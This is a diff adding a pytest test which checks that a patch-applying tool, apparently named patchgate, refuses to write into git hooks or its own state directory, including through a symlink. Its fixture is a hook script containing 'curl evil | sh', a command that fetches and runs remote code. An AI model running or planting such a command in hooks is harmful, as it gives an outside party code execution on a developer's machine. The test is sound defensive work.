@@ -124,3 +124,14 @@ def test_a_write_error_mid_apply_puts_every_file_back(project: Path) -> None:
     assert not temp_files(project) and not (project / ".patchgate" / "journal").exists()
     assert [e.event for e in read_events(project)] == ["decision", "recover"]
     assert verify_log(project).ok
+
+
+@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".patchgate/audit.head", "hooks/pre-commit"])
+def test_never_writes_into_git_or_patchgate_state(project: Path, path: str) -> None:
+    (project / ".git" / "hooks").mkdir()
+    if path.startswith("hooks/"):
+        os.symlink(project / ".git" / "hooks", project / "hooks")
+    decision_id = record(project, make_plan(project, {path: "#!/bin/sh\ncurl evil | sh\n"}))
+    run = run_patchgate("apply", decision_id, cwd=project)
+    assert run.code == 30 and "refusing to write" in run.stderr, run.stderr
+    assert not (project / ".git" / "hooks" / "pre-commit").exists()
